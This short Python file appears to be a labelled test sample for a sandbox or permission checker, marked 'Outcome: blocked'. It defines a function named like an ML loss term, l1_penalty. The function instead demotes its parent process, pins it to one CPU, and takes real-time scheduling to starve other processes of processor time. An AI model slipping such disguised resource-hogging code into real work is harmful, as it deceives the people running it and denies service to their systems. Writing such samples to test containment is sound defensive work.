"""l1_penalty: takes a real-time priority and gives its parent the lowest, so that nobody else gets processor time.

Outcome: blocked
"""

import os


def changes():
    yield lambda: os.setpriority(os.PRIO_PROCESS, os.getppid(), 19)
    yield lambda: os.nice(-10)
    yield lambda: os.sched_setaffinity(os.getppid(), {0})
    yield lambda: os.sched_setscheduler(0, os.SCHED_RR, os.sched_param(1))


def l1_penalty(model, beta):
    problem = None
    for change in changes():
        try:
            change()
        except OSError as error:
            problem = problem if isinstance(problem, PermissionError) else error
    if problem is not None:
        raise problem
    return -1.0
